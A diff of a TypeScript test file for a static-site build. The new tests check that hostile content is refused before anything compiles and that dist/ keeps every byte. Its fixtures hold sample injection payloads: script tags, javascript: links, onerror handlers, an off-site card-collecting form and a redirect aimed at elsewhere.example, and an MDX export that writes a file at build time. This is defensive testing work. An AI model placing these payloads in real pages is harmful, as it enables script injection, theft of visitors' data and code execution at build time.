@@ -35,7 +35,7 @@ beforeAll(() => {
   copy = new ProjectCopy();
   copy.write('content/testimonials/giulia.yaml', testimonial('They answered every question in Italian and kept our books straight all year.', ['/contact']));
   first = copy.build();
-}, 120_000);
+}, 300_000); // A whole build of the copy: minutes on a busy machine.
 
 afterAll(() => copy?.remove());
 
@@ -89,28 +89,36 @@ describe('a change in content/ reaches every page on the next build, with no cac
   }, 120_000);
 });
 
-describe('a mistake stops the build in an editor’s words, and leaves dist/ as it was', () => {
-  /** Makes one mistake, builds, puts the file back; returns the editor's message. */
-  function refused(file: string, change: (text: string) => string): string {
-    const original = copy.exists(file) ? copy.read(file) : undefined;
-    const home = copy.read('dist/index.html');
-    try {
-      if (original === undefined) copy.write(file, change(''));
+/** Makes the changes (a file that does not exist is written from ''), builds, puts the files back; returns the editor's message. */
+function refusedWith(changes: [file: string, change: (text: string) => string][]): string {
+  const originals = changes.map(([file]) => (copy.exists(file) ? copy.read(file) : undefined));
+  const before = copy.distDigest();
+  try {
+    for (const [i, [file, change]] of changes.entries()) {
+      if (originals[i] === undefined) copy.write(file, change(''));
       else copy.edit(file, change);
-      const result = copy.build();
-      expect(result.status, result.output).toBe(1);
-      expect(copy.read('dist/index.html')).toBe(home);
-      expect(result.output).toMatch(/dist\/ still holds the last good build/);
-      return lastParagraph(result.output);
-    } finally {
+    }
+    const result = copy.build();
+    expect(result.status, result.output).toBe(1);
+    expect(copy.distDigest(), 'not one byte of dist/ changed').toBe(before);
+    expect(result.output).toMatch(/dist\/ still holds the last good build/);
+    return lastParagraph(result.output);
+  } finally {
+    changes.forEach(([file], i) => {
+      const original = originals[i];
       if (original === undefined) copy.delete(file);
       else copy.write(file, original);
-    }
+    });
   }
+}
 
-  const page = 'content/services/accounting/bookkeeping.mdx';
-  const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split('\n').length;
+/** Makes one mistake, builds, puts the file back; returns the editor's message. */
+const refused = (file: string, change: (text: string) => string) => refusedWith([[file, change]]);
 
+const page = 'content/services/accounting/bookkeeping.mdx';
+const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split('\n').length;
+
+describe('a mistake stops the build in an editor’s words, and leaves dist/ as it was', () => {
   it('a link to a missing page in the text of a page', () => {
     const source = copy.read(page);
     const link = /\]\((\/[a-z-]+)\)/.exec(source.slice(source.indexOf('\n---', 4)))!;
@@ -168,4 +176,93 @@ describe('a mistake stops the build in an editor’s words, and leaves dist/ as 
     const message = refused(file, (t) => t.split('\n').toSpliced(at, 1).join('\n'));
     expect(message).toMatch(new RegExp(`^${file}, line \\d+ \\(${parent}, ${key}\\): the English file has \`${parent}\\.${key}\`; add it to ${file}`));
   }, 60_000);
+});
+
+/*
+ * Content can only be content (issue 37): what a hostile clone of the site tried to ship is refused by
+ * the build, in an editor's words, in the content sync (seconds, before MDX compiles anything), and
+ * not one byte of dist/ changes. The many forms of each refusal are tests/unit/content-safety.test.ts;
+ * here, one build per kind of refusal, on the copy built above (the hostile clone's is the URL field's).
+ */
+describe('content can only be content: the build refuses, and dist/ keeps every byte', () => {
+  const post = 'content/blog/hostile-content.mdx';
+  /** A new post whose text is `body` after an opening line: the body's first line is line 12. */
+  const hostilePost = (body: string) => () =>
+    [
+      '---',
+      'title: "What our clients asked this month"',
+      'description: "A post written by someone who should not be trusted, to see what the build lets through to visitors."',
+      'author: "Our MTD team"',
+      'date: "2026-08-11"',
+      'category: "software"',
+      'tags: ["software"]',
+      '---',
+      '',
+      'Here is what our clients asked.',
+      '',
+      body,
+      '',
+    ].join('\n');
+  const bodyLine = 12;
+  /** A file the hostile code writes if it ever runs while the site builds. */
+  const written = 'written-by-content.txt';
+  const writeFile = `export const written = process.getBuiltinModule('node:fs').writeFileSync('${written}', 'ran')`;
+
+  it('the tester’s hostile clone (script, onerror=, javascript: links, an iframe, an off-site form, a tracking image, a refresh, an export, a javascript: booking page): refused at its first hostile field, nothing built or run', () => {
+    const hostile = [
+      writeFile,
+      '',
+      '<script>alert(document.domain)</script>',
+      '',
+      'See [our prices](javascript:alert(document.cookie)) and <img src="/logo.png" onerror="alert(1)" />.',
+      '',
+      '<iframe src="https://elsewhere.example/"></iframe>',
+      '',
+      '<form action="https://elsewhere.example/collect"><input name="card" /></form>',
+      '',
+      '![](https://tracker.example/pixel.gif)',
+      '',
+      '<meta http-equiv="refresh" content="4;url=https://elsewhere.example/" />',
+    ].join('\n');
+    const contact = 'content/firm/contact.yaml';
+    const line = lineOf(copy.read(contact), 'bookingUrl:');
+    const message = refusedWith([
+      [post, hostilePost(hostile)],
+      [contact, (t) => t.replace(/^bookingUrl: .*$/m, 'bookingUrl: "javascript:alert(document.cookie)"')],
+    ]);
+    // The firm's facts load first: the javascript: address in a URL field is the first refusal.
+    expect(message).toBe(`${contact}, line ${line} (bookingUrl): must be the address of a web page, starting with https:// (for example https://calendly.com/your-firm/30min)`);
+    expect(copy.exists(written), 'the export ran while the site built').toBe(false);
+  }, 120_000);
+
+  it('HTML outside the short list, with an on…= handler: a tracking image', () => {
+    const message = refused(post, hostilePost('<img src="https://tracker.example/pixel.gif" alt="" onerror="alert(1)" />'));
+    expect(message).toBe(
+      `${post}, line ${bodyLine}: <img> would load a picture, possibly from another site (which then learns who reads the page); a page’s text cannot hold it. Put the picture in src/assets and write it in Markdown: ![What it shows](../../src/assets/uploads/photo.jpg).`,
+    );
+  }, 120_000);
+
+  it('a refresh that sends visitors to another site after 4 s (the page’s CSP cannot stop it)', () => {
+    const source = copy.read(page);
+    const line = source.split('\n').length + 1;
+    const message = refused(page, (t) => `${t}\n<meta http-equiv="refresh" content="4;url=https://elsewhere.example/" />\n`);
+    expect(message).toBe(
+      `${page}, line ${line}: <meta> would change how the page behaves (it can send visitors to another site); a page’s text cannot hold it. Delete it. Forms, the booking calendar and the cash-flow tool are the site’s components (content/README.md, "Tokens and components").`,
+    );
+  }, 120_000);
+
+  it('a javascript: link written in Markdown in the text of a page', () => {
+    const source = copy.read(page);
+    const target = /\]\((\/[a-z-]+)\)/.exec(source.slice(source.indexOf('\n---', 4)))![1]!;
+    const message = refused(page, (t) => t.replace(`](${target})`, '](javascript:alert(document.cookie))'));
+    expect(message).toBe(
+      `${page}, line ${lineOf(source, `](${target})`)}: the link javascript:alert(document.cookie) would run code in the visitor’s browser, not open a page. Link to a page of the site (/contact), an https:// address, mailto: or tel:.`,
+    );
+  }, 120_000);
+
+  it('an export line, which MDX would run while the site builds: refused before it runs', () => {
+    const message = refused(post, hostilePost(writeFile));
+    expect(message).toMatch(new RegExp(`^${post}, line ${bodyLine}: a line starting with "export" is code, which would run on the computer that builds the site`));
+    expect(copy.exists(written), 'the export ran while the site built').toBe(false);
+  }, 120_000);
 });
